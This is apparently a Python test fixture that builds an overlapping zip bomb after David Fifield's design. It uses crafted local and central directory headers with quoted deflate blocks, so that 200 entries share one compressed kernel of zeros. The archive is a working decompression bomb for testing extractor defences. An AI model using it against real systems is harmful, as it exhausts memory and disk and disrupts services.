"""A non-recursive "overlap" zip bomb after David Fifield's construction: full overlap, quoted local headers."""

import struct
import zlib
from pathlib import Path

from tests.support.hostile_cases import METADATA_YAML, ZipEntry, deflate_zeros, write_zip

FILES = 200
KERNEL = 1 << 20  # bytes of zeros every entry ends in


def local_header(name: bytes, crc: int, packed: int, size: int) -> bytes:
    return struct.pack("<IHHHHHIIIHH", 0x04034B50, 20, 0, 8, 0, 0x21, crc, packed, size, len(name), 0) + name


def quote(length: int) -> bytes:
    """The head of a stored (literal), non-final deflate block of ``length`` bytes."""
    return struct.pack("<BHH", 0, length, length ^ 0xFFFF)


def build(dest: Path) -> Path:
    kernel = deflate_zeros(KERNEL >> 20)
    zeros = bytes(KERNEL)
    names = [f"bomb/{i:04}.bin".encode() for i in range(FILES)]
    headers: list[bytes] = [b""] * FILES
    after = b""  # the local headers that follow entry i, which its data quotes
    packed = len(kernel)
    for i in reversed(range(FILES)):
        crc = zlib.crc32(zeros, zlib.crc32(after))
        headers[i] = local_header(names[i], crc, packed, len(after) + KERNEL)
        after = headers[i] + after
        packed += len(quote(0)) + len(headers[i])
    honest = write_zip(dest / "overlap.zip", [ZipEntry.of("metadata.yaml", METADATA_YAML.encode())]).read_bytes()
    cd_at = struct.unpack_from("<I", honest, len(honest) - 6)[0]
    body, central = bytearray(honest[:cd_at]), bytearray(honest[cd_at:-22])
    for i, header in enumerate(headers):
        offset = len(body)
        body += header + (quote(len(headers[i + 1])) if i + 1 < FILES else b"")
        crc, packed, size = struct.unpack_from("<III", header, 14)
        central += (
            struct.pack(
                "<IHHHHHHIIIHHHHHII",
                0x02014B50,
                (3 << 8) | 20,
                20,
                0,
                8,
                0,
                0x21,
                crc,
                packed,
                size,
                len(names[i]),
                0,
                0,
                0,
                0,
                0o100644 << 16,
                offset,
            )
            + names[i]
        )
    body += kernel
    count = FILES + 1
    end = struct.pack("<IHHHHIIH", 0x06054B50, 0, 0, count, count, len(central), len(body), 0)
    path = dest / "overlap.zip"
    path.write_bytes(bytes(body + central + end))
    return path
